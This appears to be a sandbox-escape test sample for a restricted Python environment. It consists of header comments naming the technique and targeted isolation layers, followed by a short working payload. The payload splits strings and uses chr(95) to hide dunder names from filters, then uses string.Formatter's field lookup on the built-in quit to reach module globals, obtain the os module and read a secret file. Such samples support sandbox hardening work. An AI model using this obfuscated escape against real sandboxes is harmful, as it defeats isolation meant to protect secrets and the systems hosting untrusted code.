# class: format strings
# technique: string.Formatter's own reader of attributes, which gives the object itself
# layers: interpreter, landlock, seccomp, identity
# code: user
# allow: collections, contextlib, copy, dataclasses, datetime, decimal, enum, functools, json, logging, math, operator, random, re, statistics, string, typing, unicodedata
# witness: secret
host = _items[0]["json"]
import string
u = chr(95) * 2
g = string.Formatter().get_field(''.join(['0.', u, 'init', u, '.', u, 'glo', 'bals', u]), (quit,), {})[0]
os = g["sys"].modules["os"]
return [{"json": {"reached": os.read(os.open(host["secret"], 0), 4096).decode()}}]
